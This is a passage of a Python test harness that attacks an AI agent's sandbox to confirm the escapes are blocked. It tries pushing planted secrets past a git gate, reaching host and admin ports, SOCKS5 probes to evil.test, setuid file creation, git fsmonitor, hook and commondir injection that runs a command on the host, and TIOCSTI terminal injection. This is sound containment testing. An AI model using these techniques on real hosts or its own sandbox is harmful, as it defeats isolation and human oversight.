    for name, text in files.items():
        with open(os.path.join(repo, name), "w") as f:
            f.write(text)
    gate_git("add", "-A", cwd=repo)
    gate_git("commit", "-q", "-m", message, cwd=repo)
    return gate_git("rev-parse", "HEAD", cwd=repo)[1].strip()


def secret_files():
    s = {k: unhide(v) for k, v in P["git_secrets_hex"].items()}
    return {"aws.env": "aws_access_key_id = %s\n" % s["git-aws"],
            "notes.md": "# notes\nx-api-key: %s\n" % s["git-anthropic"],
            "deploy.pem": s["git-pem"] + "\n"}


def judge_refusal(rc, out):
    if rc == 0:
        return "pushed"
    if "pre-receive hook declined" in out and all(d in out for d in GIT_DETECTORS):
        return "refused-naming-all-three"
    return "refused-otherwise:" + out.strip().splitlines()[-1][:100] if out.strip() else "failed"


def attack_gitgate():
    if "git_app_url" not in P:
        emit("gitgate", "git-gate-configured", "no", ["yes"])
        return
    # The manifest's ssh URL: the gitconfig rewrites it to the gate (there is no other way
    # to 127.0.0.1:<sshd port> from inside the bottle).
    app = "/tmp/gitgate-app"
    rc, out = gate_git("clone", "-q", P["git_app_url"], app)
    emit("gitgate", "clone-through-gate", "ok" if rc == 0 else "failed:" + out[-200:], ["ok"])
    if rc != 0:
        return
    clean = commit_files(app, {"feature.txt": "clean work\n"}, "clean work")
    rc, out = gate_git("push", "origin", "main", cwd=app)
    emit("gitgate", "clean-push", "ok" if rc == 0 else "failed:" + out[-200:], ["ok"], commit=clean)
    bad = commit_files(app, secret_files(), "three secret shapes")
    rc, out = gate_git("push", "origin", "main", cwd=app)
    emit("gitgate", "push-three-secret-shapes", judge_refusal(rc, out), ["refused-naming-all-three"],
         secret_commit=bad)
    # The vault's upstream only records connections (the gate's warm-up fetch at start is
    # one): a push refused before any upstream contact adds none while it runs; the clean
    # push after it must add one.
    vault = "/tmp/gitgate-vault"
    gate_git("init", "-q", "-b", "main", vault)
    commit_files(vault, secret_files(), "three secret shapes")
    start = time.time()
    rc, out = gate_git("push", P["git_vault_url"], "main", cwd=vault)
    emit("gitgate", "vault-three-secret-shapes", judge_refusal(rc, out), ["refused-naming-all-three"],
         start=start, at=time.time())
    clean_vault = "/tmp/gitgate-vault-clean"
    gate_git("init", "-q", "-b", "main", clean_vault)
    commit_files(clean_vault, {"ok.txt": "nothing secret\n"}, "clean")
    rc, out = gate_git("push", P["git_vault_url"], "main", cwd=clean_vault)
    emit("gitgate", "vault-clean-push-reaches-upstream",
         "upstream-error-shown" if rc != 0 and "upstream:" in out else "rc=%d" % rc,
         ["upstream-error-shown"])


def attack6():
    listener = P["host_listener_port"]
    admin = wait_admin_port()
    out, ms = raw_connect(("127.0.0.1", listener))
    emit("6", "direct-host-listener", out, ["ECONNREFUSED"], ms=ms)
    out, ms = raw_connect(("127.0.0.1", PORT))
    emit("6", "direct-upstream", out, ["ECONNREFUSED"], ms=ms)
    if admin is None:
        emit("6", "admin-port-known", "no-admin-port-file", ["known"])
        return
    emit("6", "admin-port-known", "known", ["known"])
    out, ms = raw_connect(("127.0.0.1", admin))
    emit("6", "direct-admin", out, ["ECONNREFUSED"], ms=ms)
    out, ms = raw_connect(("::1", admin), socket.AF_INET6)
    emit("6", "direct-admin-v6", out, ["ECONNREFUSED", "EADDRNOTAVAIL", "ENETUNREACH"], ms=ms)
    for host in ("127.0.0.1", "localhost", "[::1]"):
        out, _ = via_proxy("GET", "http://%s:%d/metrics" % (host, admin))
        emit("6", "proxy-admin-" + host, out, BLOCK_HOST)
        out, _ = via_connect("%s:%d" % (host, admin), "localhost", "GET", "/metrics", host)
        emit("6", "connect-admin-" + host, out, BLOCK_HOST)
        out, _ = via_proxy("GET", "http://%s:%d/" % (host, listener))
        emit("6", "proxy-listener-" + host, out, BLOCK_HOST)
    # The host's other addresses: no route from the bottle, and no route in egress.
    for addr in P.get("host_addresses", []):
        out, ms = raw_connect((addr, listener))
        emit("6", "direct-host-address-" + addr, out, ["ENETUNREACH"], ms=ms)
        out, _ = via_proxy("GET", "http://%s:%d/" % (addr, listener))
        emit("6", "proxy-host-address-" + addr, out, BLOCK_HOST)
    # Unix sockets are per network namespace when abstract, and the state dir (init's
    # control socket) is not mounted: nothing of the sidecar may be listed.
    try:
        unix = open("/proc/net/unix").read()
    except OSError as e:
        unix = ""
    found = [l.split()[-1] for l in unix.splitlines()[1:]
             if len(l.split()) > 7 and ("bottle" in l.split()[-1] or "init" in l.split()[-1])]
    emit("6", "unix-sockets-of-sidecar", "visible:" + ",".join(found) if found else "none",
         ["none"])
    # Other protocols on the proxy port: HTTP/2 prior knowledge (h2c) and SOCKS5.
    for tag, data in (("h2c-preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
                      ("socks5-greeting",
                       b"\x05\x01\x00\x05\x01\x00\x03\x09evil.test\x01\xbb")):
        emit("6", "proxy-" + tag, raw_exchange(data), REFUSED_AS_MALFORMED + ["closed"])
    # The allowed name pinned to loopback with allow_private: only its own port opens.
    out, _ = via_proxy("GET", "http://%s:%d/metrics" % (ALLOWED, admin))
    emit("6", "allowed-name-admin-port", out, BLOCK_HOST + ["403:route_not_matched"])
    out, _ = via_connect("%s:%d" % (ALLOWED, admin), ALLOWED, "GET", "/metrics", ALLOWED)
    emit("6", "allowed-name-admin-port-connect", out, BLOCK_HOST + ["403:route_not_matched"])
    # --noproxy "": the bottle's NO_PROXY names 127.0.0.1, which would win over -x.
    out, _ = curl("--noproxy", "", "-x", "http://%s:%d" % PROXY,
                  "http://127.0.0.1:%d/metrics" % admin)
    emit("6", "curl-proxy-admin", out, BLOCK_HOST)


# --- 8. files that outlive the bottle (issue 10 item 2) -----------------------------------
# The host then checks that nothing the agent left in the workspace is root's or setuid.

def attack8():
    if BACKEND == "vm":
        # No user namespace in the guest: the agent runs as the bottle's host uid itself.
        emit("8", "uid-inside", "root" if os.getuid() == 0 else "unprivileged", ["unprivileged"])
    else:
        emit("8", "uid-inside", "uid:%d" % os.getuid(), ["uid:1000"])
    src = open("/bin/true", "rb").read()
    for case, mode in (("chmod-4755-copy", 0o4755), ("chmod-2755-copy", 0o2755),
                       ("chmod-6755-copy", 0o6755)):
        path = os.path.join(HERE, case)
        with open(path, "wb") as f:
            f.write(src)
        try:
            os.chmod(path, mode)
            out = "set"
        except OSError as e:
            out = "refused:" + err_name(e)
        emit("8", case, out, ["refused:EPERM"])
    for case, make in (
            ("open-creat-4755", lambda p: os.close(os.open(p, os.O_CREAT | os.O_WRONLY, 0o4755))),
            ("mknod-regular-4755", lambda p: os.mknod(p, 0o100000 | 0o4755)),
            ("fchmod-4755", lambda p: (lambda fd: (os.fchmod(fd, 0o4755), os.close(fd)))(
                os.open(p, os.O_CREAT | os.O_WRONLY, 0o755)))):
        try:
            make(os.path.join(HERE, case))
            out = "set"
        except OSError as e:
            out = "refused:" + err_name(e)
        emit("8", case, out, ["refused:EPERM"])


# --- 9. git settings the host would run (issue 10 item 3) ---------------------------------
# The workspace is a git repository the operator made. The host runs `git status` in it
# (and in any repository the agent made) afterwards; P["git_marker"] must not appear.

def git(*args):
    try:
        p = subprocess.run(["git"] + list(args), cwd=HERE, capture_output=True, text=True,
                           timeout=TOOL_TIMEOUT)
        return "ok" if p.returncode == 0 else "exit-%d" % p.returncode
    except Exception as e:
        return err_name(e)


def try_write(path, text, mode="a"):
    try:
        with open(os.path.join(HERE, path), mode) as f:
            f.write(text)
        return "written"
    except OSError as e:
        return "refused:" + err_name(e)


def attack9():
    run = "touch " + P["git_marker"]
    emit("9", "git-works-inside", git("status", "--short"), ["ok"])
    emit("9", "git-config-fsmonitor", git("config", "core.fsmonitor", run), ["exit-255", "exit-4"])
    for key in ("core.hooksPath", "core.sshCommand", "alias.st", "filter.x.smudge",
                "diff.external"):
        emit("9", "git-config-" + key, git("config", key, run), ["exit-255", "exit-4"])
    emit("9", "append-to-config", try_write(".git/config", "[core]\n\tfsmonitor = %s\n" % run),
         ["refused:EROFS", "refused:EACCES", "refused:EPERM"])
    emit("9", "hook", try_write(".git/hooks/post-checkout", "#!/bin/sh\n%s\n" % run, "w"),
         ["refused:EROFS", "refused:EACCES", "refused:EPERM"])
    try:
        os.rename(os.path.join(HERE, ".git"), os.path.join(HERE, ".git-away"))
        out = "renamed"
    except OSError as e:
        out = "refused:" + err_name(e)
    emit("9", "replace-dot-git", out, ["refused:EBUSY", "refused:EPERM", "refused:EACCES"])
    # commondir makes git read config from elsewhere, without an ownership check.
    os.makedirs(os.path.join(HERE, "evil", "objects"), exist_ok=True)
    os.makedirs(os.path.join(HERE, "evil", "refs"), exist_ok=True)
    try_write("evil/HEAD", "ref: refs/heads/master\n", "w")
    try_write("evil/config", "[core]\n\tfsmonitor = %s\n" % run, "w")
    try_write(".git/commondir", "../evil\n", "w")
    deadline = time.monotonic() + 5
    while os.path.exists(os.path.join(HERE, ".git/commondir")) and time.monotonic() < deadline:
        time.sleep(0.05)
    emit("9", "commondir-redirect",
         "still-there" if os.path.exists(os.path.join(HERE, ".git/commondir")) else "removed",
         ["removed"])
    # A repository of the agent's own: safe.directory keeps the host's git out of it.
    emit("9", "nested-repo", git("init", "-q", "nested"), ["ok"])
    emit("9", "nested-fsmonitor", git("-C", "nested", "config", "core.fsmonitor", run), ["ok"])


# --- the terminal (issue 10 item 1), in a separate interactive `bottle start` -------------

def attack_terminal(marker):
    import fcntl
    import termios
    pushed = 0
    for c in "touch %s\n" % marker:
        try:
            fcntl.ioctl(0, termios.TIOCSTI, c.encode())
            pushed += 1
        except OSError:
            pass
    # Whatever it pushed lands in the agent's own pty; the host judges the operator's shell.
    emit("tty", "tiocsti", "pushed-into-own-pty:%d" % pushed,
         ["pushed-into-own-pty:%d" % len("touch %s\n" % marker), "pushed-into-own-pty:0"])
    try:
        fcntl.ioctl(0, 0x541C, bytes([3]))  # TIOCLINUX, TIOCL_PASTESEL
        out = "pasted"
    except OSError as e:
        out = "refused:" + err_name(e)
    emit("tty", "tioclinux-paste", out, ["refused:ENOTTY", "refused:EINVAL", "refused:EPERM"])


# --- the vm backend's own ways out (issue 16) ----------------------------------------------
# QEMU user networking has a gateway (10.0.2.2), a DNS forwarder (10.0.2.3) and the one
# forward address; with restrict=on only the forwarded sidecar ports may answer.

VM_CLOSED = ["TIMEOUT", "ECONNREFUSED", "EHOSTUNREACH", "ENETUNREACH", "ECONNRESET"]


def attack_vm():
    if BACKEND != "vm":
        emit("vm", "guest-network", "n/a", ["n/a"], skip="not a vm bottle: no guest network")
        return
    for addr in (("10.0.2.2", 22), ("10.0.2.2", 80), ("10.0.2.3", 53),
                 (PROXY[0], 22), (PROXY[0], 8080)):
        out, ms = raw_connect(addr, timeout=2)
        emit("vm", "slirp-tcp-%s:%d" % addr, out, VM_CLOSED, ms=ms)
    for server in ("10.0.2.3", "10.0.2.2"):
        out, ms = dns_query((server, 53))
        emit("vm", "slirp-dns-" + server, out, VM_CLOSED, ms=ms)
    # The agent's kernel is the guest's: it cannot see the host's network namespaces.
    emit("vm", "host-netns-listing", "visible" if os.path.exists("/run/netns") else "hidden",
         ["hidden"])
    # Only the forwarded sidecar ports, on the forward address, answer.
    out, ms = raw_connect(PROXY, timeout=2)
    emit("vm", "egress-forward-answers", out, ["CONNECTED"], ms=ms)


def wait_admin_port():
    path = os.path.join(HERE, "admin_port")
    for _ in range(400):
        try:
            return int(open(path).read().strip())
        except (OSError, ValueError):
            time.sleep(0.05)
    return None


def run_together(*attacks):
    """Runs the attacks in threads and waits for all: they share nothing but the proxy,
    and most of their time is waiting (a slow guest's tool start-up, a refused dial). A
    crash in one still fails the run as it did when they ran in turn: no "done" line."""
    crashed = []

    def guarded(fn):
        try:
            fn()
        except BaseException:
            crashed.append(fn)
            traceback.print_exc()

    threads = [threading.Thread(target=guarded, args=(fn,)) for fn in attacks]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    if crashed:
        sys.exit("attacks.py: %d attack(s) crashed (traceback above)" % len(crashed))


def main():
    if sys.argv[1:2] == ["--terminal"]:
        attack_terminal(sys.argv[2])
        return
    hunted = [unhide(h) for h in P["hunted_hex"]]
    secrets = {k: unhide(v) for k, v in P["planted_hex"].items()}
    # Phase 1: the token hunt alongside every attack that writes no file (they only talk to
    # the network, and never put a hunted secret on a command line). Phase 2, after the hunt:
    # the ones that leave files behind (git-gate's commits hold a PEM private key, 8 and 9
    # write into the workspace), which the hunt would otherwise find.
    run_together(lambda: attack7(hunted), attack_legit, attack1, attack2,
                 lambda: attack3(secrets), lambda: attack3_evasion(secrets),
                 lambda: attack3_h2(secrets), lambda: attack3_websocket(secrets),
                 lambda: attack_cleartext(secrets), lambda: attack4(secrets), attack5, attack6,
                 attack_vm)
    run_together(attack_gitgate, attack8, attack9)
    print(json.dumps({"attack": "done"}), flush=True)


if __name__ == "__main__":
    sys.exit(main())
